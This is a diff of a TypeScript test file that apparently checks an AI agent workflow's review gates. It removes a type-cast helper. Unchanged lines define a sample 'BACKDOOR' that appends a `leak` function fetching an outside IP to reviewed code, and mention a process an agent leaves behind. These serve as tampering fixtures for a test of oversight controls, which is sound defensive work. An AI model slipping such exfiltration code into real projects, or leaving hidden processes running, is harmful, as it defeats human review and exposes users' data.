@@ -1,7 +1,6 @@
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { expect, it } from "vitest";
-import type { JsonObject } from "@bylaw/kernel";
 import { openGates } from "@bylaw/plugin-gates";
 import {
   CODE,
@@ -13,8 +12,7 @@ import {
   type Walk,
 } from "./workflow-walk-kit.ts";
 
-const json = (value: unknown): JsonObject => value as JsonObject;
-const REVIEWED = json(HANDED.review());
+const REVIEWED = HANDED.review();
 const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;
 
 /** A process that a call of the agent left behind, and that no call asks about. */
@@ -53,7 +51,7 @@ it("what was green is what is reviewed, approved and completed, whatever writes 
     task,
     agent,
     fence,
-    artifacts: json(HANDED.done),
+    artifacts: HANDED.done,
     host: { token: walk.token(), workspace: walk.folder },
   };
   const ended = await walk.tasks.complete(hold);
